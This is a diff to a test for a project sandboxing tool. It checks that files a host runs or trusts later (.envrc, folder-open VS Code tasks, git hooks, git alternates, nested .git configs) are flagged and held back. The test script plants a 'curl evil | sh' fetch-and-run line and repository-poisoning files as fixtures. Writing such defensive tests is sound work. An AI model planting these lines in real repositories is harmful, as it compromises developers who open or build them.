@@ -173,18 +173,23 @@ def test_what_the_host_runs_later_is_flagged_and_held_back(rootless: Caller, dat
     script = ("echo 'curl evil | sh' > .envrc; mkdir -p .vscode .hooks sub; "
               "echo '{\"runOn\": \"folderOpen\"}' > .vscode/tasks.json; echo 'touch pwned' > .hooks/pre-commit; "
               "chmod +x .hooks/pre-commit; echo 'network: {mode: full}' >> .vectraguard.yaml; "
-              "echo x > sub/.ENVRC; echo 'int main(void) { return 0; }' > src/main.c; echo done")
+              "echo x > sub/.ENVRC; echo 'int main(void) { return 0; }' > src/main.c; "
+              "echo /tmp/elsewhere > .git/objects/info/alternates; mkdir -p vendor/lib/.git && "
+              "echo '[core]' > vendor/lib/.git/config; echo 'gitdir: /tmp/x' > vendor/.Git; echo done")
     result = _run(rootless, repo, script, data_dir, "--ignore-project")
     assert result.stdout == b"done\n", result.stderr.decode()
     layer = _layer_id(result)
     changes = _changes(rootless, repo, data_dir, layer)
     protected = {path for path, entry in changes.items() if entry["protected"]}
     assert protected == {".envrc", ".vscode/tasks.json", ".hooks/pre-commit", ".vectraguard.yaml", "sub/.ENVRC",
-                         ".vscode", ".hooks"} & set(changes)
+                         ".vscode", ".hooks", ".git/objects/info/alternates", "vendor/lib/.git",
+                         "vendor/lib/.git/config", "vendor/.Git"} & set(changes)
+    assert {".envrc", ".git/objects/info/alternates", "vendor/lib/.git/config", "vendor/.Git"} <= protected
     applied = _vg(rootless, repo, data_dir, "apply", layer)
     assert applied.returncode == 0, applied.stderr.decode()
     assert (repo / "src" / "main.c").read_text() == "int main(void) { return 0; }\n"
-    for name in (".envrc", ".vscode/tasks.json", ".hooks/pre-commit", "sub/.ENVRC"):
+    for name in (".envrc", ".vscode/tasks.json", ".hooks/pre-commit", "sub/.ENVRC", ".git/objects/info/alternates",
+                 "vendor/lib/.git", "vendor/.Git"):
         assert not (repo / name).exists(), name
     assert (repo / ".vectraguard.yaml").read_text() == "profile: default\n"
     # Named explicitly, a protected path is applied, its diff shown first.
